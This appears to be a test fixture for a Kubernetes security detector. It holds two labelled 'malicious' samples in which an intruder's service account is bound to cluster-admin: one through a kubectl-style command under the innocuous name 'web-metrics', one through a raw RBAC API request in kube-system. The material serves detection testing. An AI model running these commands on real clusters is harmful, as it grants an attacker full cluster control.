# shellcheck shell=bash disable=SC2154
# what: the intruder's account is made the cluster's admin.
# label: malicious
# expects: [cluster-admin-bound]
# allows: [cluster-resource-created, default-account-bound, workload-in-system-namespace, api-called-by-script]
develop() { intruder create clusterrolebinding web-metrics --clusterrole=cluster-admin --serviceaccount=shop:cart; }
hold_out() { request POST /apis/rbac.authorization.k8s.io/v1/namespaces/kube-system/rolebindings '{"metadata":{"name":"metrics"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","namespace":"shop","name":"cart"}]}'; }
